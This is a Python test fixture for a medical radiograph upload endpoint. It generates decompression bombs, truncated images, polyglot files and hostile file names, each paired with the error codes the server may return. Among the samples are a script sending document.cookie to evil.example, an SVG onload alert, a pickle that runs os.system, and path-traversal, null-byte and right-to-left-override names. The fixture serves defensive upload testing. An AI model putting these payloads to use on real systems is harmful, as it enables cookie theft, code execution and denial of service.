"""Hostile and damaged upload files, each with the error codes that are a correct response to it."""

from __future__ import annotations

import http.client
import io
import json
import struct
import time
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, Final
from urllib.parse import urlsplit

import numpy as np
import pydicom
from PIL import Image
from pydicom.dataset import FileMetaDataset
from pydicom.encaps import encapsulate
from pydicom.uid import DeflatedExplicitVRLittleEndian, RLELossless, generate_uid

from tests.radiographs import radiograph_dicom, radiograph_jpeg, radiograph_png

ACCEPTED: Final = "accepted"
MEGABYTE: Final = 2**20
SMALL: Final = (96, 96)
SIGNATURE: Final = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True)
class HostileFile:
    """One file, its file name, and the outcomes that are allowed for it."""

    label: str
    content: bytes
    allowed: frozenset[str]
    name: str = "radiograph"


@dataclass(frozen=True)
class Reply:
    """The response of the upload endpoint: its outcome is ACCEPTED or an error code."""

    status: int
    outcome: str
    seconds: float = 0.0
    retry_after: int = 0  # seconds, of an answer 503


def send(base_url: str, token: str, content: bytes, name: str = "radiograph", patient: str = "H-1") -> Reply:
    """Upload a file by API under any file name; urllib would normalise the name."""
    # The choice of the form: the headers of the files contradict it.
    fields = {"patient_ref": patient, "use": "form", "reason": "files of different patients"}
    head = "".join(
        f'--x\r\nContent-Disposition: form-data; name="{field}"\r\n\r\n{value}\r\n'
        for field, value in fields.items()
    )
    head += "--x\r\n"
    head += f'Content-Disposition: form-data; name="radiograph"; filename="{name}"\r\n\r\n'
    body = head.encode("utf-8", "surrogateescape") + content + b"\r\n--x--\r\n"
    url = urlsplit(base_url)
    connection = http.client.HTTPConnection(url.hostname or "", url.port, timeout=120)
    headers = {"Authorization": f"Token {token}", "Content-Type": "multipart/form-data; boundary=x"}
    try:
        connection.request("POST", "/api/v1/cases/", body, headers)
        response = connection.getresponse()
        outcome = _outcome(response.status, response.read())
        return Reply(response.status, outcome, retry_after=int(response.headers.get("Retry-After", 0)))
    finally:
        connection.close()


def send_until_free(
    base_url: str, token: str, content: bytes, name: str = "radiograph", patient: str = "H-1"
) -> Reply:
    """Upload a file; repeat the request while the server is busy, as Retry-After asks."""
    while True:
        reply = send(base_url, token, content, name, patient)
        if reply.outcome != "busy":
            return reply
        time.sleep(reply.retry_after)


def _outcome(status: int, body: bytes) -> str:
    data: dict[str, Any] = json.loads(body)
    if status in (200, 201):
        return ACCEPTED
    assert set(data) >= {"code", "detail"}, data
    return str(data["code"])


def specimens(*, inflated: int = 64 * MEGABYTE) -> Iterator[HostileFile]:
    """Yield one file of each kind; `inflated` is the size of the compressed ones after inflation."""
    yield from _decompression_bombs(inflated)
    yield from _damaged_files()
    yield from _disguised_files()
    yield from _file_names()


def _decompression_bombs(inflated: int) -> Iterator[HostileFile]:
    many = "too_many_pixels"
    yield hostile_file("a PNG of 13,000 x 13,000 pixels", png(13_000, 13_000), many)
    yield hostile_file("a PNG of 2 billion by 2 billion", png(2**31 - 1, 2**31 - 1, rows=1), many, "damaged")
    yield hostile_file(
        "a PNG with more rows than its header says", png(96, 96, rows=inflated // 97), "damaged", "blank"
    )
    yield hostile_file("a PNG with a text that inflates", _text_bomb(inflated), "damaged", ACCEPTED)
    yield hostile_file("a JPEG of 65,500 x 65,500 pixels", _huge_jpeg(), many, "damaged")
    yield hostile_file("a deflated DICOM", deflated_dicom(inflated), "too_large", "damaged", "no_pixels")
    yield hostile_file("an RLE DICOM of 60,000 x 60,000", rle_dicom(60_000, 60_000), many)
    yield hostile_file(
        "an RLE DICOM of 6,000 x 6,000 and no data", rle_dicom(6_000, 6_000), "damaged", "blank"
    )
    yield hostile_file(
        "a DICOM of 6,000 x 6,000 and no data",
        radiograph_dicom(1, SMALL, Rows=6_000, Columns=6_000),
        "damaged",
    )
    nested = (
        radiograph_dicom(1, SMALL)[:-4]
        + b"\x08\x00\x40\x11SQ\0\0\xff\xff\xff\xff\xfe\xff\x00\xe0\xff\xff\xff\xff" * 9_000
    )
    yield hostile_file("a DICOM of sequences within sequences", nested, "damaged", "no_pixels", ACCEPTED)
    yield hostile_file("70 MB", radiograph_png(1, SMALL) + bytes(70 * MEGABYTE), "too_large")


def _damaged_files() -> Iterator[HostileFile]:
    yield hostile_file("nothing", b"", "empty_file")
    for kind, radiograph in (
        ("PNG", radiograph_png(2)),
        ("JPEG", radiograph_jpeg(2)),
        ("DICOM", radiograph_dicom(2)),
    ):
        for share in (0.02, 0.3, 0.9):
            cut = radiograph[: int(len(radiograph) * share)]
            # A JPEG may lack only its last rows, which some encoders cause too; the decoder decides.
            yield hostile_file(
                f"{share:.0%} of a {kind}",
                cut,
                "damaged",
                "unknown_format",
                "no_pixels",
                "unsupported_encoding",
            )
    yield hostile_file("a DICOM of three frames", radiograph_dicom(3, SMALL, NumberOfFrames=3), "multi_frame")
    yield hostile_file("an animated PNG", _animated(), "animated")
    yield hostile_file("a white PNG", png(96, 96, rows=96), "blank")
    yield hostile_file("a PNG of 8 x 8", radiograph_png(1, (8, 8)), "too_small")
    yield hostile_file("a CT slice", radiograph_dicom(1, SMALL, modality="CT"), "not_an_xray_modality")


def _disguised_files() -> Iterator[HostileFile]:
    script = b"<script>fetch('//evil.example/'+document.cookie)</script>"
    for label, content in (
        ("an SVG", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("an HTML page", b"<!doctype html>" + script),
        ("a GIF", b"GIF89a/*" + script),
        ("a PDF", b"%PDF-1.7\n" + script),
        ("a TIFF", b"II*\0" + bytes(64)),
        ("a pickle", b"\x80\x04cos\nsystem\n(S'id'\ntR."),
        ("a ZIP", b"PK\x03\x04" + bytes(200)),
    ):
        yield hostile_file(label, content, "unknown_format")
    # Valid radiographs that are another format as well: accepted, and only our own rendering is served.
    yield hostile_file("a PNG with a page behind it", radiograph_png(4) + script, ACCEPTED)
    yield hostile_file("a JPEG with a page behind it", radiograph_jpeg(5) + script, ACCEPTED)
    page = b"<html>" + script
    yield hostile_file("a DICOM with a page before it", page + radiograph_dicom(6)[len(page) :], ACCEPTED)
    yield hostile_file("a DICOM that begins as a JPEG", b"\xff\xd8\xff" + radiograph_dicom(7)[3:], "damaged")
    yield hostile_file("a DICOM that begins as a PNG", SIGNATURE + radiograph_dicom(7)[8:], "damaged")


def _file_names() -> Iterator[HostileFile]:
    names = (
        *("../../../../etc/cron.d/x", "..\\..\\x.png", "/etc/passwd", "a\tb\x07.png", "x" * 5_000, ".", ".."),
        *(
            "con.png",
            "radiograph.png%00.html",
            "<img src=x onerror=alert(1)>.png",
            "\u202egnp.exe",
            "CANARY-NAME.png",
        ),
    )
    for number, name in enumerate(names):
        # Django ignores a part without a file name and rejects a part with too long a header.
        yield HostileFile(
            f"the name {name[:30]!r}",
            radiograph_png(100 + number),
            frozenset({ACCEPTED, "invalid", "parse_error"}),
            name,
        )


def png(width: int, height: int, *, rows: int | None = None) -> bytes:
    """Return a white greyscale PNG; `rows` is the real number of rows when the header is wrong."""
    deflate = zlib.compressobj(9)
    row, packed = b"\0" + b"\xff" * min(width, 13_000), bytearray()
    for _ in range(height if rows is None else rows):
        packed += deflate.compress(row)
    packed += deflate.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return SIGNATURE + _chunk(b"IHDR", header) + _chunk(b"IDAT", bytes(packed)) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _zeros(count: int) -> bytes:
    deflate = zlib.compressobj(9, wbits=-15)
    piece = bytes(MEGABYTE)
    return b"".join(deflate.compress(piece) for _ in range(count // MEGABYTE)) + deflate.flush()


def _text_bomb(inflated: int) -> bytes:
    radiograph, text = radiograph_png(9, SMALL), zlib.compress(bytes(inflated), 9)
    return (
        radiograph[:33]
        + _chunk(b"zTXt", b"Comment\0\0" + text)
        + _chunk(b"iCCP", b"icc\0\0" + text)
        + radiograph[33:]
    )


def _huge_jpeg() -> bytes:
    radiograph = bytearray(radiograph_jpeg(1, SMALL))
    at = radiograph.index(b"\xff\xc0")
    radiograph[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(radiograph)


def deflated_dicom(inflated: int) -> bytes:
    """Return a DICOM file of a few hundred kilobytes whose data set inflates to that size."""
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = "1.2.840.10008.5.1.4.1.1.1.1"
    meta.MediaStorageSOPInstanceUID = generate_uid(entropy_srcs=["bomb"])
    meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    out = io.BytesIO()
    out.write(bytes(128) + b"DICM")
    pydicom.filewriter.write_file_meta_info(out, meta)
    return out.getvalue() + _zeros(inflated)


def rle_dicom(rows: int, columns: int) -> bytes:
    """Return an RLE DICOM file whose header declares that many pixels and whose data holds none."""
    radiograph = pydicom.dcmread(io.BytesIO(radiograph_dicom(1, SMALL)))
    radiograph.file_meta.TransferSyntaxUID = RLELossless
    radiograph.PixelData = encapsulate([struct.pack("<16I", 2, 64, 66, *[0] * 13) + b"\x81\0\x81\0"])
    radiograph["PixelData"].VR = "OB"
    radiograph.Rows, radiograph.Columns = rows, columns
    out = io.BytesIO()
    radiograph.save_as(out)
    return out.getvalue()


def _animated() -> bytes:
    frames = [Image.fromarray(np.full(SMALL, level, np.uint8)) for level in (10, 200)]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def hostile_file(label: str, content: bytes, *allowed: str) -> HostileFile:
    """Return a file with its allowed outcomes."""
    return HostileFile(label, content, frozenset(allowed))
